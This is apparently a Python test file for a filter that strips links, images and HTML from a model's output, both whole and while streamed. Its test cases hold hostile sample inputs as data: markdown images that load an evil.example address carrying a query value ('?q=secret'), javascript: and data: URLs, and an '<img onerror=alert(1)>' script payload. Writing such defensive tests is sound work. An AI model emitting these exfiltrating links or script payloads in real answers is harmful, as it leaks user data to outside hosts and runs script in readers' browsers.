"""A model's words load nothing and lead nowhere, also while they come in."""

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.safety import Links, without_links

KNOWN = "See https://example.org/report for more."
CASES = [
    ("![chart](https://evil.example/x.png?q=secret) rose [1].", "chart rose [1]."),
    ("It rose ![](//evil.example/p) by 4 % [1].", "It rose  by 4 % [1]."),
    ("It rose [here](https://evil.example/?d=48.7) [1][2].", "It rose here [1][2]."),
    ("It rose [1](https://evil.example).", "It rose [1]."),
    ("It rose [here][ref].\n[ref]: https://evil.example", "It rose here.\n"),
    ("[x](javascript:alert(1)) and [y](data:text/html,a)", "x and y"),
    ("<img src=x onerror=alert(1)> It rose.", " It rose."),
    ("It <a href='https://evil.example'>rose</a>.", "It rose."),
    ("Go to https://evil.example/?q=1. Now.", "Go to (link removed). Now."),
    ("Go to www.evil.example now", "Go to (link removed) now"),
    ("Go to https://example.org/report.", "Go to https://example.org/report."),
    ("Words\u02c6joined\u02c6so", "Words joined so"),
    ("a < b and c > d, x[0] = 3; [see note] it rose [1, 3].",) * 2,
    ("At 3:1, 5//2 and and/or [2021]. **Bold** | cell |\n- item [4]",) * 2,
]  # fmt: skip


@pytest.mark.parametrize(("text", "shown"), CASES)
def test_words_stay_and_addresses_go(text: str, shown: str) -> None:
    assert without_links(text, KNOWN) == shown


def streamed(text: str, cuts: list[int]) -> str:
    links = Links(KNOWN)
    ends = [0, *sorted(cuts), len(text)]
    return "".join(links.feed(text[a:b]) for a, b in itertools.pairwise(ends)) + links.finish()


@pytest.mark.parametrize("text", [text for text, _ in CASES])
def test_every_split_gives_the_same(text: str) -> None:
    whole = without_links(text, KNOWN)
    for cut in range(len(text) + 1):
        assert streamed(text, [cut]) == whole
    assert streamed(text, list(range(len(text)))) == whole


@settings(max_examples=100)
@given(st.lists(st.sampled_from([*(text for text, _ in CASES), "![", "](", "<img ", "http", ")"])))
def test_nothing_that_loads_is_left(pieces: list[str]) -> None:
    text = " ".join(pieces)
    shown = streamed(text, list(range(len(text))))
    assert "evil.example" not in shown
    assert "javascript:" not in shown
